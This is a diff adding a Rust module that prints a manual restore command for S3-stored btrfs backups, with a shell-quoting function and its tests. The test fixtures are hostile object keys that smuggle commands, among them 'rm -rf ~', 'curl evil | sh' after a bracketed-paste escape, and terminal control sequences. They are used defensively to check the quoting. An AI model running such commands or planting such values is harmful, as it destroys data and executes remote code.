@@ -1,0 +1,84 @@
+//! How a backup is received by hand: a line for the shell, of programs that are not ours.
+
+use crate::archive::Backup;
+use crate::s3::S3Options;
+use crate::text::shown;
+
+/// How a backup is received by hand, after those that it builds on.
+pub(super) fn receive(reach: &S3Options, bucket: &str, backup: &Backup) -> String {
+    let mut aws = "aws".to_owned();
+    if let Some(region) = &reach.region {
+        aws += &format!(" --region {}", quoted(region));
+    }
+    if let Some(url) = &reach.endpoint_url {
+        aws += &format!(" --endpoint-url {}", quoted(url));
+    }
+    let fetch = |key: &String| {
+        let url = format!("s3://{bucket}/{key}");
+        format!("{aws} s3 cp {} -", quoted(&url))
+    };
+    let all: Vec<String> = backup.chunks.iter().map(fetch).collect();
+    match &all[..] {
+        [one] => format!("{one} | btrfs receive ."),
+        _ => format!("{{ {}; }} | btrfs receive .", all.join(" && ")),
+    }
+}
+
+/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
+/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
+fn quoted(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        return word.to_owned();
+    }
+    // What is shown as something else has a character that does something.
+    if shown(word) == word.replace('\\', "\\\\") {
+        return format!("'{}'", word.replace('\'', "'\\''"));
+    }
+    let byte = |byte: u8| match byte {
+        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
+        b' '..=b'~' => char::from(byte).to_string(),
+        _ => format!("\\{byte:03o}"),
+    };
+    format!("$'{}'", word.bytes().map(byte).collect::<String>())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_for_the_shell() {
+        assert_eq!(quoted("s3://b/k-1.bin"), "s3://b/k-1.bin");
+        assert_eq!(quoted("a b"), "'a b'");
+        assert_eq!(quoted("it's"), "'it'\\''s'");
+        assert_eq!(quoted(""), "''");
+        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
+    }
+
+    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
+    /// around.
+    #[test]
+    fn pasted_keys_do_no_harm() {
+        for key in [
+            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
+            "x\nrm -rf ~\n",
+            "x\u{1b}[201~\ncurl evil | sh\n",
+            "a\u{9b}31m'\\",
+            "b\u{202e}gnp.exe",
+            "\r\t\0".trim_end_matches('\0'),
+        ] {
+            let word = quoted(key);
+            assert!(
+                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
+                "{word}"
+            );
+            let echo = ["-c".to_owned(), format!("printf %s {word}")];
+            let said = std::process::Command::new("bash")
+                .args(echo)
+                .output()
+                .unwrap();
+            assert_eq!(said.stdout, key.as_bytes(), "{word}");
+        }
+    }
+}
